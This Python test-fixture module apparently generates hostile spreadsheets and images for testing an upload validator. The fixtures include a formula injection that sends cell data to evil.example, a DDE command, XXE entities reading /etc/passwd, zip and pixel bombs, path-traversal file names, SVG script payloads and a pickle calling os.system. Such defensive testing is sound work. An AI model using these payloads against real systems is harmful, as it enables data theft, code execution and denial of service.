"""Files that nobody sends by mistake: spreadsheets and pictures, made by code so that none lies in the repository."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from PIL import Image, PngImagePlugin

SECRET = b"GPS-of-home"
XSS = "<script>alert(1)</script>"
HEAD = "code,category_en,name_en,price,duration"
ROW = "K-1,Hair,Cut,120,30"
SHEET_NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MARK = '<?xml version="1.0" encoding="UTF-8"?>'


@dataclass(frozen=True)
class File:
    """`make()` is its content; `name` and `mime` are what the sender says of it."""

    id: str
    make: Callable[[], bytes]
    name: str = "list.csv"
    mime: str = "text/csv"


# --- Spreadsheets ---


def zipped(parts: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def sheet(rows: str, *, before: str = "", after: str = "", doctype: str = "") -> str:
    return (
        f'{MARK}{doctype}<worksheet xmlns="{SHEET_NAMESPACE}" xmlns:r="{RELATIONS}">{before}'
        f"<sheetData>{rows}</sheetData>{after}</worksheet>"
    )


def texts(*cells: str) -> str:
    return "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells)


HEAD_ROW = f"<row>{texts(*HEAD.split(','))}</row>"


def workbook(content: str, **parts: bytes | str) -> bytes:
    """A workbook whose first sheet is `content`; `parts` are added or replace what is usual, by short names."""
    kind = f"{PACKAGE}/content-types"
    usual: dict[str, bytes | str] = {
        "[Content_Types].xml": f'{MARK}<Types xmlns="{kind}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'{MARK}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{MARK}<workbook xmlns="{SHEET_NAMESPACE}" xmlns:r="{RELATIONS}"><sheets>'
        '<sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{MARK}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": content,
    }
    return zipped(usual | parts)


def nested_zip(depth: int) -> bytes:
    inner = b"0" * 1_000_000
    for level in range(depth):
        inner = zipped({f"{level}-{number}.zip": inner for number in range(4)})
    return inner


def lying_zip() -> bytes:
    """The directory says that a part of 60 MB is small."""
    content = bytearray(workbook(sheet(HEAD_ROW + f"<row>{texts('a' * 60_000_000)}</row>")))
    real = struct.pack("<I", 60_000_000)[3:]
    place = content.rfind(b"PK\x01\x02")
    for number in range(place, place + 46 - 24):
        if content[number + 3 : number + 4] == real:
            struct.pack_into("<I", content, number, 1000)
            break
    return bytes(content)


ENTITIES = "<!DOCTYPE d [<!ENTITY a 'aaaaaaaaaa'>{}]>".format(
    "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
)
EXTERNAL = '<!DOCTYPE d [<!ENTITY x SYSTEM "{}">]>'
FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
]
ENCODED = [
    ("utf-16 with its mark", "utf-16"),
    ("utf-16 little", "utf-16-le"),
    ("utf-16 big", "utf-16-be"),
    ("utf-32", "utf-32"),
    ("cp1256", "cp1256"),
    ("iso-8859-6", "iso-8859-6"),
    ("shift-jis", None),
    ("koi8", None),
]
BYTES = [
    ("nothing", b""),
    ("one NUL", b"\x00"),
    ("only a mark", b"\xef\xbb\xbf"),
    ("only an utf-16 mark", b"\xff\xfe"),
    ("only line ends", b"\r\n" * 1000),
    ("only commas", b"," * 1000),
    ("one quote", b'"'),
    ("a quote never closed", f'{HEAD}\n"K-1,Hair,Cut'.encode()),
    ("a quote never closed over megabytes", f"{HEAD}\n".encode() + b'"' + b"a\n" * 2_000_000),
    ("NUL in a cell", f"{HEAD}\nK-1,Ha\x00ir,Cut,120,30".encode()),
    ("NUL in a heading", f"co\x00de,{HEAD}\n{ROW}".encode()),
    ("a lone surrogate", f"{HEAD}\nK-1,Hair,".encode() + b"\xed\xa0\x80" + b",120,30"),
    ("an overlong NUL", f"{HEAD}\nK-1,Hair,".encode() + b"\xc0\x80" + b",120,30"),
    ("half a character", f"{HEAD}\nK-1,Hair,".encode() + b"\xd9"),
    ("stray bytes", bytes(range(128, 256)) * 100),
    ("noise", bytes((number * 7919) % 251 for number in range(200_000))),
    ("mixed line ends", f"{HEAD}\r\nK-1,Hair\rCut,120\n\r30".encode()),
    ("doubled headings", f"{HEAD},{HEAD}\n{ROW},{ROW}".encode()),
    ("no heading we know", b"a,b,c\n1,2,3"),
    ("a row longer than the head", f"{HEAD}\n{ROW},{ROW}".encode()),
    ("forty-one columns", ("a," * 41 + "\n").encode() * 5),
    ("ten thousand columns", ("a," * 10_000 + "\n").encode()),
    ("a million columns", b"," * 1_000_000 + b"a\n"),
    ("a million rows", HEAD.encode() + b"\n1" * 1_000_000),
    ("a million blank rows", HEAD.encode() + b"\n" * 1_000_000 + ROW.encode() + b",,,x"),
    ("a cell of megabytes", f"{HEAD}\nK-1,Hair,{'x' * 5_000_000},120,30".encode()),
    ("a heading of megabytes", b"x" * 5_000_000 + b"\n1"),
    ("eleven megabytes", f"{HEAD}\n".encode() + b"x" * 11 * 1024 * 1024),
    ("an old workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000),
    ("a page", f"<html>{XSS}<table><tr><td>code</td></tr></table></html>".encode()),
    ("an xml file", ENTITIES.encode() + b"<d>&j;</d>"),
    ("a pdf", b"%PDF-1.7\n" + b"\x00" * 200),
    ("a program", b"\x7fELF" + b"\x00" * 200),
    ("a pickle", b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93."),
    ("gzip", b"\x1f\x8b\x08\x00" + zlib.compress(b"0" * 1_000_000)),
    ("digits of a huge number", f"{HEAD}\nK-1,Hair,Cut,{'9' * 100_000},30".encode()),
    ("a price without end", f"{HEAD}\nK-1,Hair,Cut,1e999999999,30".encode()),
    ("a duration without end", f"{HEAD}\nK-1,Hair,Cut,120,{'9' * 5000}".encode()),
    ("a price that is none", f"{HEAD}\nK-1,Hair,Cut,NaN,30".encode()),
    ("letters piled up", f"{HEAD}\nK-1,Hair,{'a' + chr(0x301) * 50_000},120,30".encode()),
    ("a head of a zip only", b"PK\x03\x04"),
    ("a zip and nonsense", b"PK\x03\x04" + b"garbage" * 100),
]
WORKBOOKS: list[tuple[str, Callable[[], bytes]]] = [
    ("a sheet of 110 MB", lambda: workbook(sheet(HEAD_ROW + f"<row>{texts('a' * 110_000_000)}</row>"))),
    ("strings of 105 MB", lambda: workbook(sheet(HEAD_ROW), **{"xl/sharedStrings.xml": b"a" * 105_000_000})),
    ("a bomb beside the sheet", lambda: workbook(sheet(HEAD_ROW), **{"xl/media/image1.png": b"\x00" * 110_000_000})),
    (
        "a hundred and ten parts of megabytes",
        lambda: zipped({f"p{number}": b"\x00" * 1_000_000 for number in range(110)}),
    ),
    ("a directory that lies", lying_zip),
    ("zips in zips", lambda: nested_zip(4)),
    ("entities that multiply", lambda: workbook(sheet(HEAD_ROW + "<row><c><v>&j;</v></c></row>", doctype=ENTITIES))),
    ("a million rows in a sheet", lambda: workbook(sheet(HEAD_ROW + "<row/>" * 60_000 + f"<row>{texts('a')}</row>"))),
    ("sixty thousand rows", lambda: workbook(sheet(HEAD_ROW + f"<row>{texts('a')}</row>" * 60_000))),
    ("sixteen thousand columns", lambda: workbook(sheet(f"<row>{texts('a') * 16_384}</row>" * 3))),
    ("a cell far away", lambda: workbook(sheet(HEAD_ROW + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))),
    ("a size that lies", lambda: workbook(sheet(HEAD_ROW, before='<dimension ref="A1:XFD1048576"/>'))),
    ("a negative row", lambda: workbook(sheet(HEAD_ROW + '<row r="-5"><c><v>1</v></c></row>'))),
    ("a row called abc", lambda: workbook(sheet(HEAD_ROW + '<row r="abc"><c r="!!"><v>1</v></c></row>'))),
    ("a cell of megabytes in a sheet", lambda: workbook(sheet(HEAD_ROW + f"<row>{texts('xy' * 400_000)}</row>"))),
    ("a number without end", lambda: workbook(sheet(HEAD_ROW + "<row><c><v>1e99999</v></c></row>"))),
    ("a date of year 9 million", lambda: workbook(sheet(HEAD_ROW + '<row><c t="d"><v>9999999-1-1</v></c></row>'))),
    ("a string nobody keeps", lambda: workbook(sheet(HEAD_ROW + '<row><c t="s"><v>99999</v></c></row>'))),
    ("an unknown kind of cell", lambda: workbook(sheet(HEAD_ROW + '<row><c t="zz"><v>1</v></c></row>'))),
    ("a style nobody made", lambda: workbook(sheet(HEAD_ROW + '<row><c s="999"><v>1</v></c></row>'))),
    ("a formula in a sheet", lambda: workbook(sheet(HEAD_ROW + "<row><c><f>WEBSERVICE(1)</f><v>K-1</v></c></row>"))),
    ("an error in a sheet", lambda: workbook(sheet(HEAD_ROW + '<row><c t="e"><v>#REF!</v></c></row>'))),
    ("deep elements", lambda: workbook(sheet("<a>" * 50_000 + "</a>" * 50_000))),
    ("many attributes", lambda: workbook(sheet("<row " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>"))),
    ("not well formed", lambda: workbook(sheet("<row><c>"))),
    ("empty xml", lambda: workbook("")),
    ("xml that is none", lambda: workbook("\x00\x01")),
    ("no sheet", lambda: workbook(sheet(HEAD_ROW), **{"xl/workbook.xml": f'<workbook xmlns="{SHEET_NAMESPACE}"/>'})),
    ("no workbook", lambda: zipped({"[Content_Types].xml": "<Types/>"})),
    ("nothing in a zip", lambda: zipped({})),
    ("a name that climbs", lambda: workbook(sheet(HEAD_ROW), **{"../../../../tmp/climbed": b"x"})),
    ("an absolute name", lambda: workbook(sheet(HEAD_ROW), **{"/etc/cron.d/x": b"x"})),
    ("a macro", lambda: workbook(sheet(HEAD_ROW), **{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    ("cut in the middle", lambda: workbook(sheet(HEAD_ROW))[:400]),
    ("cut at the end", lambda: workbook(sheet(HEAD_ROW))[:-30]),
    ("a method nobody knows", lambda: workbook(sheet(HEAD_ROW)).replace(b"\x08\x00", b"\x63\x00")),
    (
        "said to be encrypted",
        lambda: workbook(sheet(HEAD_ROW)).replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"),
    ),
    ("a document", lambda: zipped({"word/document.xml": "<d/>", "[Content_Types].xml": "<Types/>"})),
    ("stored, not packed", lambda: zipped({"xl/workbook.xml": "<workbook/>"}, method=zipfile.ZIP_STORED)),
    (
        "a link to another book",
        lambda: workbook(
            sheet(HEAD_ROW),
            **{"xl/externalLinks/externalLink1.xml": '<externalLink><x r="http://evil.example/"/></externalLink>'},
        ),
    ),
    (
        "a sheet elsewhere",
        lambda: workbook(
            sheet(HEAD_ROW),
            **{
                "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
                f'Type="{RELATIONS}/worksheet" TargetMode="External" Target="http://evil.example/s.xml"/></Relationships>'
            },
        ),
    ),
]
EXTERNAL_ADDRESSES = ["file:///etc/passwd", "http://127.0.0.1:9/x", "php://filter/x", "\\\\evil\\share"]
NAMES = [
    *("../../etc/passwd", "C:\\boot.ini", "x\x00.csv", "a" * 400 + ".csv", f"{XSS}.csv", "x\r\nSet-Cookie: a=b.csv"),
    *("\u202evsc.exe", ".htaccess", "con", "list.csv.php", "%2e%2e%2f", "\x1b[31mred.csv"),
]


def spreadsheets() -> list[File]:
    """Each of them is no list that may be imported."""
    found = [File(said, lambda content=content: content) for said, content in BYTES]
    found += [File(said, make, "list.xlsx", "application/zip") for said, make in WORKBOOKS]
    for said, encoding in ENCODED:
        content = f"{HEAD}\nK-1,Hair,قص,120,30".encode(encoding) if encoding else b"\x83\x65\x83\x58\xff,\xc1\xc2"
        found.append(File(said, lambda content=content: content))
    for number, address in enumerate(EXTERNAL_ADDRESSES):
        content = sheet(HEAD_ROW + "<row><c><v>&x;</v></c></row>", doctype=EXTERNAL.format(address))
        found.append(File(f"outside entity {number}", lambda content=content: workbook(content), "list.xlsx"))
    for number, formula in enumerate(FORMULAS):
        cell = formula.replace('"', '""')
        rows = f'{HEAD}\nK-1,Hair,"{cell}",abc,30'
        found.append(File(f"formula {number} in a row that is wrong", rows.encode))
    for number, name in enumerate(NAMES):
        found.append(File(f"name {number}", f"{HEAD}\nK-1,Hair,Cut,abc,30".encode, name, "../../x"))
    return found


# --- Pictures ---


def encoded(size: tuple[int, int] = (30, 20), *, kind: str = "PNG", mode: str = "RGB", **options: object) -> bytes:
    written = BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else 1).save(written, kind, **options)
    return written.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, data: bytes = b"", *, depth: int = 8, more: bytes = b"") -> bytes:
    """A PNG that claims a size and holds whatever `data` is."""
    head = struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0)
    body = chunk(b"IHDR", head) + more + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif.get_ifd(0x8825)[1] = "N"
    return encoded(kind="JPEG", exif=exif, comment=SECRET)


def with_text() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", SECRET.decode() + XSS)
    text.add_text("Long", "x" * 100_000, zip=True)
    return encoded(pnginfo=text)


def animated() -> bytes:
    frames = [Image.new("RGB", (30, 20), color) for color in ("red", "green", "blue")] * 10
    written = BytesIO()
    frames[0].save(written, "WEBP", save_all=True, append_images=frames[1:])
    return written.getvalue()


SVG = "<svg xmlns='http://www.w3.org/2000/svg' {}>{}</svg>"
NO_PICTURES: list[tuple[str, Callable[[], bytes]]] = [
    ("svg with a script", SVG.format("", XSS).encode),
    ("svg with a handler", SVG.format("onload='alert(1)'", "").encode),
    ("svg with an entity", (EXTERNAL.format("file:///etc/passwd") + SVG.format("", "&x;")).encode),
    ("svg that calls", SVG.format("", "<image href='http://evil.example/'/>").encode),
    ("svg after a mark", lambda: b"\xef\xbb\xbf" + SVG.format("", XSS).encode()),
    ("a page", f"<html>{XSS}</html>".encode),
    ("a script that is a gif", lambda: b"GIF89a/*" + b"\x00" * 60 + b"*/=alert(1)"),
    ("gif", lambda: encoded(kind="GIF")),
    ("bmp", lambda: encoded(kind="BMP")),
    ("tiff", lambda: encoded(kind="TIFF")),
    ("ico", lambda: encoded(kind="ICO")),
    ("ppm", lambda: encoded(kind="PPM")),
    ("pcx", lambda: encoded(kind="PCX")),
    ("postscript", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file"),
    ("pdf", lambda: b"%PDF-1.7\n" + b"\x00" * 200),
    ("a zip", lambda: zipped({"a.png": encoded()})),
    ("nothing in it", lambda: b""),
    ("one byte", lambda: b"\x89"),
    ("only a signature", lambda: b"\x89PNG\r\n\x1a\n"),
    ("no end", lambda: encoded((400, 400))[:60]),
    ("half a jpeg", lambda: encoded((400, 400), kind="JPEG")[:300]),
    ("half a webp", lambda: encoded((400, 400), kind="WEBP")[:40]),
    ("pixels without end", lambda: png(2**31 - 1, 2**31 - 1)),
    ("as wide as a road", lambda: png(2**31 - 1, 1)),
    ("no size", lambda: png(0, 0)),
    ("a bomb of pixels", lambda: encoded((10000, 10000), mode="1")),
    ("a bomb that is packed", lambda: png(20000, 20000, b"\x00" * 20_000_000)),
    ("too many pixels", lambda: encoded((7000, 6000), mode="1")),
    ("a jpeg that claims much", lambda: encoded(kind="JPEG").replace(b"\x00\x14\x00\x1e", b"\xff\xff\xff\xff")),
    ("no pixels behind the size", lambda: png(5000, 5000)),
    ("a wrong depth", lambda: png(30, 20, b"\x00" * 5000, depth=7)),
    (
        "a text that unpacks without end",
        lambda: png(3, 3, more=chunk(b"zTXt", b"a\x00\x00" + zlib.compress(b"a" * 70_000_000))),
    ),
    (
        "a profile that unpacks without end",
        lambda: png(3, 3, more=chunk(b"iCCP", b"a\x00\x00" + zlib.compress(b"a" * 70_000_000))),
    ),
    ("too many bytes", lambda: encoded() + b"x" * 5 * 1024 * 1024),
    ("noise", lambda: bytes((number * 7919) % 251 for number in range(100_000))),
    ("a pickle", lambda: b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93."),
]
CLEANED: list[tuple[str, Callable[[], bytes]]] = [
    ("a place", with_place),
    ("texts", with_text),
    ("a page behind a jpeg", lambda: encoded(kind="JPEG") + f"<html>{XSS}".encode() + SECRET),
    ("a page behind a png", lambda: encoded() + f"<html>{XSS}".encode() + SECRET),
    ("a zip behind a png", lambda: encoded() + zipped({"x.html": XSS}) + SECRET),
    ("many pictures", animated),
    ("a palette", lambda: encoded(mode="P")),
    ("four inks", lambda: encoded(kind="JPEG", mode="CMYK")),
]


def pictures() -> list[File]:
    """Each of them is refused."""
    found = [File(said, make, "me.jpg", "image/jpeg") for said, make in NO_PICTURES]
    return [*found, File("said to be a page", lambda: b"<html>", "x.html", "text/html")]


def harmless_pictures() -> list[File]:
    """Pictures with something besides, and pictures under names and kinds that lie."""
    found = [File(said, make, "me.jpg", "image/jpeg") for said, make in CLEANED]
    return found + [File(f"name {number}", encoded, name, "text/html") for number, name in enumerate(NAMES)]
